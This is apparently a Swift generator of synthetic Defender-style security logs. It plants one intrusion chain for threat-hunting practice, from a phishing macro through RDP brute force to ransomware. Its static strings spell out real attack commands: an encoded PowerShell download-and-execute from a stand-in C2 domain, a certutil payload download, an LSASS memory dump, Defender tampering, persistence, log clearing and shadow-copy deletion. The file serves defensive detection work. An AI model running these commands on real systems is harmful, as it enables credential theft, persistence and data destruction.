import Foundation
import KQL

/// The attack stories: one intrusion told consistently across tables, placed in the last day of
/// the window so every starter query's lookback (and the rare-outbound "recent" window) sees it.
///
/// Phishing mail → Word macro → encoded PowerShell → certutil download → LSASS dump → password
/// spray → RDP brute force from the internet → local admin, scheduled task, Run key, Defender
/// tampering, log clearing, shadow-copy deletion → mass file renames on the file server.
struct Stories {
    let world: World
    let t0: Int64
    let victim: Int
    let ws: Int
    let rdp: Int
    let fileServer: Int
    let user: User

    static let c2Domain = "cdn-invoice-portal.xyz"
    static let c2IP = "45.155.205.99"
    static let attackerIP = "185.220.101.47"
    static let downloadURL = "http://cdn-invoice-portal.xyz/update/winupd.bin"

    init(world: World, end: Int64) {
        self.world = world
        t0 = end - 20 * Generator.hour
        victim = world.users.count - 1
        user = world.users[victim]
        ws = user.device
        rdp = min(2, world.serverCount - 1)
        fileServer = min(1, world.serverCount - 1)
    }

    static func minutes(_ m: Int) -> Int64 { Int64(m) * Generator.minute }

    var documentPath: String { "C:\\Users\\\(user.sam)\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\X1Y2Z3Q4\\Invoice_88213.docm" }
    var wordCommandLine: String { "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"\(documentPath)\" /o \"\"" }
    static var encodedCommandLine: String {
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-invoice-portal.xyz/a.ps1')"
        var bytes: [UInt8] = []
        for unit in script.utf16 { bytes.append(UInt8(unit & 0xFF)); bytes.append(UInt8(unit >> 8)) }
        return "powershell.exe -NoP -W Hidden -EncodedCommand " + Data(bytes).base64EncodedString()
    }
    static let certutilCommandLine = "certutil.exe -urlcache -split -f \(downloadURL) C:\\Users\\Public\\winupd.exe"
    static let dumpCommandLine = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Users\\Public\\lsass.dmp full"
    static let tamperCommandLine = "powershell.exe -NoProfile -Command Set-MpPreference -DisableRealtimeMonitoring $true -ExclusionPath C:\\Users\\Public"
    static let taskCommandLine = "schtasks.exe /Create /SC ONLOGON /TN \"\\Microsoft\\Windows\\Maintenance\\SysHealthCheck\" /TR \"powershell.exe -w hidden -File C:\\Users\\Public\\sync.ps1\" /RL HIGHEST /F"
    static let runKeyCommandLine = "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v WinUpdateHelper /t REG_SZ /d C:\\Users\\Public\\winupd.exe /f"
    static let ransomCommandLine = "\"C:\\Users\\Public\\winupd.exe\" -s -p D:\\Shares"

    func plant(into gen: inout Generator) {
        switch gen.table {
        case "DeviceProcessEvents": process(&gen)
        case "DeviceNetworkEvents": network(&gen)
        case "DeviceFileEvents": file(&gen)
        case "DeviceRegistryEvents": registry(&gen)
        case "DeviceEvents": deviceEvents(&gen)
        case "DeviceLogonEvents": logons(&gen)
        case "EmailEvents": email(&gen)
        case "AlertInfo", "AlertEvidence": alerts(&gen)
        case "IdentityLogonEvents": spray(&gen)
        default: break
        }
    }

    private func event(_ gen: Generator, _ at: Int64, _ device: Int, proc: String, parent: String? = nil) -> Event {
        Event(time: t0 + at, device: Int32(device), user: Int32(victim), action: 0, proc: gen.p(proc), parent: parent.map { gen.p($0) } ?? -1)
    }

    private func process(_ gen: inout Generator) {
        let ps = Self.encodedCommandLine
        let rows: [(Int64, Int, String, String, String, String)] = [
            (Self.minutes(10), ws, "WINWORD.EXE", "OUTLOOK.EXE", wordCommandLine, "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\""),
            (Self.minutes(11), ws, "powershell.exe", "WINWORD.EXE", ps, wordCommandLine),
            (Self.minutes(12), ws, "certutil.exe", "powershell.exe", Self.certutilCommandLine, ps),
            (Self.minutes(15), ws, "winupd.exe", "powershell.exe", "\"C:\\Users\\Public\\winupd.exe\" -s", ps),
            (Self.minutes(40), ws, "rundll32.exe", "winupd.exe", Self.dumpCommandLine, "\"C:\\Users\\Public\\winupd.exe\" -s"),
            (Self.minutes(45), ws, "powershell.exe", "winupd.exe", Self.tamperCommandLine, "\"C:\\Users\\Public\\winupd.exe\" -s"),
            (Self.minutes(50), ws, "schtasks.exe", "cmd.exe", Self.taskCommandLine, "cmd.exe /c"),
            (Self.minutes(55), ws, "reg.exe", "cmd.exe", Self.runKeyCommandLine, "cmd.exe /c"),
            (Self.minutes(190), rdp, "net.exe", "cmd.exe", "net.exe localgroup administrators helpdesk_tmp /add", "\"C:\\Windows\\system32\\cmd.exe\""),
            (Self.minutes(200), rdp, "wevtutil.exe", "cmd.exe", "wevtutil.exe cl Security", "\"C:\\Windows\\system32\\cmd.exe\""),
            (Self.minutes(205), rdp, "vssadmin.exe", "cmd.exe", "vssadmin.exe delete shadows /all /quiet", "\"C:\\Windows\\system32\\cmd.exe\""),
            (Self.minutes(210), fileServer, "winupd.exe", "cmd.exe", Self.ransomCommandLine, "\"C:\\Windows\\system32\\cmd.exe\""),
        ]
        for (at, device, proc, parent, commandLine, parentCommandLine) in rows {
            gen.set.append(event(gen, at, device, proc: proc, parent: parent), [
                "ProcessCommandLine": .string(commandLine), "InitiatingProcessCommandLine": .string(parentCommandLine),
            ])
        }
    }

    private func network(_ gen: inout Generator) {
        for (at, proc, commandLine) in [(Self.minutes(11), "powershell.exe", Self.encodedCommandLine), (Self.minutes(12), "certutil.exe", Self.certutilCommandLine)] {
            gen.set.append(event(gen, at, ws, proc: proc), [
                "ActionType": .string("ConnectionSuccess"), "RemoteIP": .string(Self.c2IP), "RemotePort": .int(80),
                "RemoteUrl": .string(Self.c2Domain), "RemoteIPType": .string("Public"), "Protocol": .string("Tcp"),
                "InitiatingProcessCommandLine": .string(commandLine),
            ])
        }
        var inbound = event(gen, Self.minutes(150), rdp, proc: "svchost.exe")
        inbound.user = -1
        gen.set.append(inbound, [
            "ActionType": .string("InboundConnectionAccepted"), "RemoteIP": .string(Self.attackerIP), "RemotePort": .int(51234),
            "LocalPort": .int(3389), "RemoteUrl": .string(""), "RemoteIPType": .string("Public"), "Protocol": .string("Tcp"),
        ])
    }

    private func file(_ gen: inout Generator) {
        func add(_ f: FileEntity) -> Int32 { gen.world.files.append(f); return Int32(gen.world.files.count - 1) }
        var doc = event(gen, Self.minutes(9), ws, proc: "OUTLOOK.EXE")
        doc.file = add(FileEntity(name: "Invoice_88213.docm", folder: "AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\X1Y2Z3Q4\\", inUserProfile: true))
        gen.set.append(doc, ["ActionType": .string("FileCreated")])
        var payload = event(gen, Self.minutes(12), ws, proc: "certutil.exe")
        payload.file = Int32(gen.world.processes[gen.world.process("winupd.exe")].file)
        gen.set.append(payload, [
            "ActionType": .string("FileCreated"), "FileOriginUrl": .string(Self.downloadURL), "FileOriginIP": .string(Self.c2IP),
            "InitiatingProcessCommandLine": .string(Self.certutilCommandLine),
        ])
        var dump = event(gen, Self.minutes(40), ws, proc: "rundll32.exe")
        dump.file = add(FileEntity(name: "lsass.dmp", folder: "C:\\Users\\Public\\"))
        gen.set.append(dump, ["ActionType": .string("FileCreated"), "InitiatingProcessCommandLine": .string(Self.dumpCommandLine)])
        let docs = ["Quarterly Report", "Budget", "Payroll", "Contract", "Forecast", "Minutes"]
        let extensions = ["docx", "xlsx", "pdf"]
        for i in 0..<150 {
            let original = "\(docs[i % docs.count]) \(2020 + i / 18)-\(i % 18 + 1).\(extensions[i % 3])"
            var rename = event(gen, Self.minutes(211) + Int64(i) * Generator.tick, fileServer, proc: "winupd.exe")
            rename.file = add(FileEntity(name: original + ".crypted", folder: "D:\\Shares\\Finance\\"))
            gen.set.append(rename, [
                "ActionType": .string("FileRenamed"), "PreviousFileName": .string(original),
                "PreviousFolderPath": .string("D:\\Shares\\Finance\\" + original), "InitiatingProcessCommandLine": .string(Self.ransomCommandLine),
                "InitiatingProcessId": .long(6644),
            ])
        }
        var note = event(gen, Self.minutes(214), fileServer, proc: "winupd.exe")
        note.file = add(FileEntity(name: "README_RESTORE_FILES.txt", folder: "D:\\Shares\\Finance\\"))
        gen.set.append(note, ["ActionType": .string("FileCreated"), "InitiatingProcessCommandLine": .string(Self.ransomCommandLine), "InitiatingProcessId": .long(6644)])
    }

    private func registry(_ gen: inout Generator) {
        let rows: [(Int64, String, String, String, String, String, String)] = [
            (Self.minutes(45), "powershell.exe", "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender", "DisableAntiSpyware", "Dword", "1", Self.tamperCommandLine),
            (Self.minutes(55), "reg.exe", "HKEY_CURRENT_USER\\\(user.sid)\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "WinUpdateHelper", "String", "C:\\Users\\Public\\winupd.exe", Self.runKeyCommandLine),
        ]
        for (at, proc, key, name, type, data, commandLine) in rows {
            gen.set.append(event(gen, at, ws, proc: proc), [
                "ActionType": .string("RegistryValueSet"), "RegistryKey": .string(key), "RegistryValueName": .string(name),
                "RegistryValueType": .string(type), "RegistryValueData": .string(data), "PreviousRegistryKey": .string(key),
                "PreviousRegistryValueName": .string(""), "PreviousRegistryValueData": .string(""),
                "InitiatingProcessCommandLine": .string(commandLine),
            ])
        }
    }

    private func deviceEvents(_ gen: inout Generator) {
        var open = event(gen, Self.minutes(40), ws, proc: "rundll32.exe")
        open.file = Int32(gen.world.processes[gen.world.process("lsass.exe")].file)
        gen.set.append(open, [
            "ActionType": .string("OpenProcessApiCall"), "AdditionalFields": .string("{\"DesiredAccess\":2097151}"),
            "InitiatingProcessCommandLine": .string(Self.dumpCommandLine),
        ])
        var tamper = event(gen, Self.minutes(45), ws, proc: "powershell.exe")
        tamper.file = -2
        gen.set.append(tamper, [
            "ActionType": .string("TamperingAttempt"),
            "AdditionalFields": .string("{\"Status\":\"Blocked\",\"Target\":\"DisableAntiSpyware\",\"TamperingAction\":\"RegistryModification\"}"),
            "InitiatingProcessCommandLine": .string(Self.tamperCommandLine),
        ])
        var task = event(gen, Self.minutes(50), ws, proc: "schtasks.exe")
        task.file = -2
        gen.set.append(task, [
            "ActionType": .string("ScheduledTaskCreated"),
            "AdditionalFields": .string("{\"TaskName\":\"\\\\Microsoft\\\\Windows\\\\Maintenance\\\\SysHealthCheck\",\"TaskContent\":\"<Exec><Command>powershell.exe</Command><Arguments>-w hidden -File C:\\\\Users\\\\Public\\\\sync.ps1</Arguments></Exec>\"}"),
            "InitiatingProcessCommandLine": .string(Self.taskCommandLine),
        ])
        var admin = event(gen, Self.minutes(190), rdp, proc: "net.exe")
        admin.file = -2
        gen.set.append(admin, [
            "ActionType": .string("UserAccountAddedToLocalGroup"), "AccountName": .string("helpdesk_tmp"),
            "AccountDomain": .string(String(world.devices[rdp].name.prefix { $0 != "." }).uppercased()),
            "AccountSid": .string("S-1-5-21-3623811015-3361044348-30300820-1013"),
            "AdditionalFields": .string("{\"GroupName\":\"Administrators\",\"GroupDomainName\":\"BUILTIN\",\"GroupSid\":\"S-1-5-32-544\"}"),
            "InitiatingProcessCommandLine": .string("net.exe localgroup administrators helpdesk_tmp /add"),
        ])
    }

    private func logons(_ gen: inout Generator) {
        let guesses = ["administrator", "admin", "backup", user.sam, "scanner"]
        for i in 0..<30 {
            var e = event(gen, Self.minutes(120) + Int64(i) * 20 * Generator.tick, rdp, proc: "lsass.exe")
            e.item = -1
            e.variant = 1
            gen.set.append(e, [
                "ActionType": .string("LogonFailed"), "AccountName": .string(guesses[i % guesses.count]), "AccountSid": .string(""),
                "RemoteIP": .string(Self.attackerIP), "RemoteIPType": .string("Public"), "RemoteDeviceName": .string("kali"),
                "FailureReason": .string("InvalidUserNameOrPassword"), "Protocol": .string("NTLM"), "IsLocalAdmin": .bool(false),
                "RemotePort": .int(Int32(50_112 + i * 3)), "AdditionalFields": .string("{\"IsLocalLogon\":false}"),
            ])
        }
        var success = event(gen, Self.minutes(150), rdp, proc: "lsass.exe")
        success.item = -1
        success.variant = 2
        gen.set.append(success, [
            "ActionType": .string("LogonSuccess"), "RemoteIP": .string(Self.attackerIP), "RemoteIPType": .string("Public"),
            "RemoteDeviceName": .string("kali"), "Protocol": .string("Negotiate"), "IsLocalAdmin": .bool(true), "RemotePort": .int(50_421),
        ])
    }

    private func email(_ gen: inout Generator) {
        let mail = Event(time: t0, device: -1, user: Int32(victim), action: 0, variant: 0, item: 2)
        gen.set.append(mail, [
            "NetworkMessageId": .string("6f1c2a9e-4b7d-4c21-9e0a-5d3b8f7a1c42"),
            "SenderFromAddress": .string("billing@northwind-invoices.com"), "SenderMailFromAddress": .string("bounce@northwind-invoices.com"),
            "SenderFromDomain": .string("northwind-invoices.com"), "SenderMailFromDomain": .string("northwind-invoices.com"),
            "SenderDisplayName": .string("Northwind Billing"), "SenderIPv4": .string("45.155.205.12"),
            "Subject": .string("Overdue invoice 88213 - action required"), "ThreatTypes": .string("Phish"),
            "DetectionMethods": .string("{\"Phish\":[\"Spoof external domain\"]}"), "ConfidenceLevel": .string("{\"Phish\":\"Low\"}"),
            "AuthenticationDetails": .string("{\"SPF\":\"softfail\",\"DKIM\":\"none\",\"DMARC\":\"fail\",\"CompAuth\":\"fail\"}"),
            "AttachmentCount": .int(1), "UrlCount": .int(1),
        ])
    }

    private func alerts(_ gen: inout Generator) {
        let alerts: [(Int64, Int, String, String, String, String, String, String)] = [
            (Self.minutes(11), ws, "Suspicious PowerShell command line", "Execution", "High", "[\"PowerShell (T1059.001)\"]", "Process", Self.encodedCommandLine),
            (Self.minutes(41), ws, "Suspected credential theft activity", "CredentialAccess", "High", "[\"LSASS Memory (T1003.001)\"]", "Process", Self.dumpCommandLine),
            (Self.minutes(151), rdp, "Possible RDP brute force followed by a successful logon", "CredentialAccess", "Medium", "[\"Brute Force (T1110)\"]", "Ip", ""),
            (Self.minutes(212), fileServer, "Ransomware behavior detected in the file system", "Ransomware", "High", "[\"Data Encrypted for Impact (T1486)\"]", "Process", Self.ransomCommandLine),
        ]
        for (i, (at, device, title, category, severity, techniques, entity, commandLine)) in alerts.enumerated() {
            let alertId = "da63895\(i)4a1b2c3d4e5f6a7b8c9d0e1f2_\(1_234_567 + i)"
            let common: [String: KQLValue] = [
                "AlertId": .string(alertId), "Title": .string(title), "Category": .string(category), "Categories": .string("[\"\(category)\"]"),
                "Severity": .string(severity), "AttackTechniques": .string(techniques),
                "ServiceSource": .string("Microsoft Defender for Endpoint"), "DetectionSource": .string("EDR"),
            ]
            let e = Event(time: t0 + at, device: Int32(device), user: Int32(victim), action: 0, variant: 1)
            if gen.table == "AlertInfo" {
                gen.set.append(e, common)
                continue
            }
            let device = world.devices[device]
            gen.set.append(e, common.merging([
                "EntityType": .string("Machine"), "EvidenceRole": .string("Impacted"), "DeviceId": .string(device.id),
                "DeviceName": .string(device.name), "LocalIP": .string(device.ip), "AccountName": .string(""), "AccountDomain": .string(""),
                "AccountSid": .string(""), "AccountObjectId": .string(""), "AccountUpn": .string(""), "AdditionalFields": .string("{\"OSPlatform\":\"\(device.osPlatform)\"}"),
            ]) { $1 })
            gen.set.append(e, common.merging(["EntityType": .string("User"), "EvidenceRole": .string("Impacted")]) { $1 })
            if i == 0 {
                gen.set.append(e, common.merging([
                    "EntityType": .string("Url"), "EvidenceRole": .string("Related"), "RemoteUrl": .string("http://\(Self.c2Domain)/a.ps1"),
                    "EvidenceDirection": .string("Destination"), "AccountName": .string(""), "AccountDomain": .string(""), "AccountSid": .string(""),
                    "AccountObjectId": .string(""), "AccountUpn": .string(""),
                ]) { $1 })
            }
            if entity == "Process" {
                let image = String(commandLine.split(separator: " ")[0]).trimmingCharacters(in: ["\""]).components(separatedBy: "\\").last ?? ""
                let file = world.processIndex[image].map { world.files[world.processes[$0].file] }
                gen.set.append(e, common.merging([
                    "EntityType": .string("Process"), "EvidenceRole": .string("Related"), "ProcessCommandLine": .string(commandLine),
                    "FileName": .string(image), "FolderPath": .string(file?.folder ?? ""), "SHA1": .string(file?.sha1 ?? ""),
                    "SHA256": .string(file?.sha256 ?? ""), "FileSize": .long(file?.size ?? 0),
                    "ThreatFamily": .string(image == "winupd.exe" ? "Filecoder" : ""),
                    "AccountName": .string(""), "AccountDomain": .string(""), "AccountSid": .string(""), "AccountObjectId": .string(""), "AccountUpn": .string(""),
                ]) { $1 })
            } else {
                gen.set.append(e, common.merging([
                    "EntityType": .string("Ip"), "EvidenceRole": .string("Related"), "RemoteIP": .string(Self.attackerIP), "EvidenceDirection": .string("Source"),
                    "AccountName": .string(""), "AccountDomain": .string(""), "AccountSid": .string(""), "AccountObjectId": .string(""), "AccountUpn": .string(""),
                ]) { $1 })
            }
        }
        _ = gen
    }

    private func spray(_ gen: inout Generator) {
        let extra = ["administrator", "svc_sql", "helpdesk", "it_admin", "backup_admin", "scanner", "test", "guest", "sql_admin", "print_svc", "hr_admin", "finance01"]
        var names: [(String, Int)] = world.users.indices.filter { $0 != victim }.prefix(8).map { (world.users[$0].sam, $0) }
        for name in extra where names.count < 15 { names.append((name, -1)) }
        for (i, (name, u)) in names.enumerated() {
            let e = Event(time: t0 + Self.minutes(90) + Int64(i) * 20 * Generator.tick, device: Int32(ws), user: Int32(u >= 0 ? u : victim), action: 1, variant: 1)
            var values: [String: KQLValue] = ["ActionType": .string("LogonFailed"), "FailureReason": .string("WrongPassword")]
            if u < 0 {
                values.merge(["AccountName": .string(name), "AccountUpn": .string(""), "AccountSid": .string(""), "AccountObjectId": .string(""), "AccountDisplayName": .string("")]) { $1 }
            }
            gen.set.append(e, values)
        }
    }
}
